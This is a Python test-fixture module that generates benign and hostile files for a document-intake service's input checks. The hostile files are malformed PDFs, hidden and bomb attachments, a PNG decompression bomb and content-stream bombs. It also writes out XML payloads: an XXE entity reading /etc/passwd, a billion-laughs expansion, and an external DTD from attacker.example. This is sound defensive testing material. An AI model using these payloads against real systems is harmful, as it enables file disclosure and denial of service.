"""Builders of good and hostile input files for the intake checks (all made on the fly, nothing committed)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pikepdf
from PIL import Image
from reportlab.pdfgen import canvas


def write(path: Path, data: bytes) -> Path:
    """Write bytes and return the path."""
    path.write_bytes(data)
    return path


# --- PDF ----------------------------------------------------------------------------------------------------


def pdf_bytes(pages: int = 3) -> bytes:
    """A small born-digital PDF with text on every page."""
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    for number in range(pages):
        pdf.drawString(72, 720, f"Stadtverwaltung Musterstadt, Seite {number + 1} " * 3)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def _save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    """Serialise a pikepdf document."""
    buffer = io.BytesIO()
    pdf.save(buffer, **options)  # type: ignore[arg-type]
    return buffer.getvalue()


def encrypted_pdf_bytes(user_password: str = "geheim") -> bytes:
    """An AES-256 encrypted PDF; with an empty user password it opens without one (owner password only)."""
    with pikepdf.open(io.BytesIO(pdf_bytes(2))) as pdf:
        return _save(pdf, encryption=pikepdf.Encryption(owner="owner-secret", user=user_password))


def zero_page_pdf_bytes() -> bytes:
    """A structurally valid PDF whose page tree is empty."""
    return _save(pikepdf.new())


def corrupt_pdf_bytes() -> bytes:
    """A PDF header and end marker with garbage in between."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF\n"


def pdf_with_attachment(name: str, data: bytes, pages: int = 1) -> bytes:
    """A PDF with one embedded file (EmbeddedFiles name tree)."""
    with pikepdf.open(io.BytesIO(pdf_bytes(pages))) as pdf:
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, data, filename=name)
        return _save(pdf)


def pdf_with_af_only_attachment(name: str, data: bytes) -> bytes:
    """A PDF whose attachment is referenced only from the catalogue's /AF array, not the name tree."""
    with pikepdf.open(io.BytesIO(pdf_bytes(1))) as pdf:
        stream = pdf.make_stream(data)
        stream.Type = pikepdf.Name.EmbeddedFile
        filespec = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec,
                F=pikepdf.String(name),
                UF=pikepdf.String(name),
                EF=pikepdf.Dictionary(F=stream, UF=stream),
            )
        )
        pdf.Root.AF = pikepdf.Array([filespec])
        return _save(pdf)


def pdf_with_flate_bomb_attachment(name: str, inflated_size: int) -> bytes:
    """A PDF whose attachment inflates to ``inflated_size`` zero bytes from a small compressed stream."""
    with pikepdf.open(io.BytesIO(pdf_bytes(1))) as pdf:
        compressed = zlib.compress(b"\x00" * inflated_size, 9)
        stream = pdf.make_stream(compressed)
        stream.Type = pikepdf.Name.EmbeddedFile
        stream.Filter = pikepdf.Name.FlateDecode
        filespec = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Filespec, F=pikepdf.String(name), EF=pikepdf.Dictionary(F=stream)
            )
        )
        pdf.Root.AF = pikepdf.Array([filespec])
        return _save(pdf)


# --- images -------------------------------------------------------------------------------------------------


def noise(width: int = 600, height: int = 800, seed: int = 0) -> Image.Image:
    """A grey image of noise: compresses badly, so that cutting the file loses real image data."""
    rng = np.random.default_rng(seed)
    return Image.fromarray((rng.random((height, width)) * 255).astype(np.uint8))


def image_bytes(fmt: str, width: int = 600, height: int = 800) -> bytes:
    """One image in the given Pillow format."""
    buffer = io.BytesIO()
    noise(width, height).save(buffer, fmt)
    return buffer.getvalue()


def tiff_bytes(frames: int, width: int = 200, height: int = 300) -> bytes:
    """A multi-page TIFF (one frame per scanned page)."""
    images = [noise(width, height, seed) for seed in range(frames)]
    buffer = io.BytesIO()
    images[0].save(buffer, "TIFF", save_all=True, append_images=images[1:], compression="tiff_deflate")
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    """One PNG chunk with length and CRC."""
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb_bytes(side: int = 30_000) -> bytes:
    """A valid 1-bit PNG of side × side white pixels: about 100 KB that decode to ``side²`` pixels."""
    row = b"\x00" + b"\xff" * ((side + 7) // 8)
    compressor = zlib.compressobj(9)
    rows = [compressor.compress(row) for _ in range(side)]
    idat = b"".join(rows) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


# --- other types --------------------------------------------------------------------------------------------


def docx_bytes() -> bytes:
    """A minimal Word document (a ZIP with the Office Open XML parts)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def zip_bytes() -> bytes:
    """A plain ZIP archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("scan.txt", "hallo")
    return buffer.getvalue()


def elf_bytes() -> bytes:
    """The start of a 64-bit Linux executable."""
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


# --- XML ----------------------------------------------------------------------------------------------------

CII_NS = "urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"

MINIMAL_CII = (
    f'<?xml version="1.0" encoding="UTF-8"?>\n<rsm:CrossIndustryInvoice xmlns:rsm="{CII_NS}">'
    "<rsm:ExchangedDocument/></rsm:CrossIndustryInvoice>"
).encode()

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">
&xxe;</rsm:CrossIndustryInvoice>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>
"""

MALFORMED = (
    b'<?xml version="1.0"?>\n<rsm:CrossIndustryInvoice xmlns:rsm="x"><open></rsm:CrossIndustryInvoice>'
)

NOT_AN_INVOICE = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'


# --- cost bombs and unusable page shapes ------------------------------------------------------------------


def scan_pdf_with_content(content: bytes, *, width_pt: float = 595, height_pt: float = 842) -> bytes:
    """A one-page "scan": an embedded grey image drawn over the page, with ``content`` (flate-compressed) before
    the drawing operators."""
    pdf = pikepdf.new()
    pixels = np.full((110, 80), 235, dtype=np.uint8)
    image = pikepdf.Stream(pdf, zlib.compress(pixels.tobytes()))
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width, image.Height, image.BitsPerComponent = 80, 110, 8
    image.ColorSpace, image.Filter = pikepdf.Name.DeviceGray, pikepdf.Name.FlateDecode
    draw = f"q {width_pt} 0 0 {height_pt} 0 0 cm /Im0 Do Q\n".encode()
    stream = pikepdf.Stream(pdf, zlib.compress(content + draw, 9))
    stream.Filter = pikepdf.Name.FlateDecode
    page = pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, width_pt, height_pt],
                              Resources=pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image)),
                              Contents=stream)
    pdf.pages.append(pikepdf.Page(page))
    return _save(pdf, compress_streams=False)


def q_bomb_pdf_bytes(pairs: int = 4_000_000) -> bytes:
    """The content-stream bomb: millions of ``q Q`` pairs (a few KB compressed) before the page image."""
    return scan_pdf_with_content(b"q Q " * pairs)


def deep_nesting_pdf_bytes(depth: int = 100_000) -> bytes:
    """Graphics states saved ``depth`` deep and restored again."""
    return scan_pdf_with_content(b"q " * depth + b"Q " * depth)


def blank_pdf_of_size(width_pt: float, height_pt: float) -> bytes:
    """One empty page of the given size (e.g. 1 × 14400 pt)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].MediaBox = pikepdf.Array([0, 0, width_pt, height_pt])
    return _save(pdf)


def many_objects_pdf_bytes(objects: int) -> bytes:
    """A one-page PDF carrying ``objects`` extra (unreferenced but listed) integer objects."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.Junk = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(N=i)) for i in range(objects)])
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def png_of_size(width: int, height: int) -> bytes:
    """A white PNG of the given size (1 × 1, 3 × 3000 ...)."""
    buffer = io.BytesIO()
    Image.new("L", (width, height), 255).save(buffer, format="PNG")
    return buffer.getvalue()
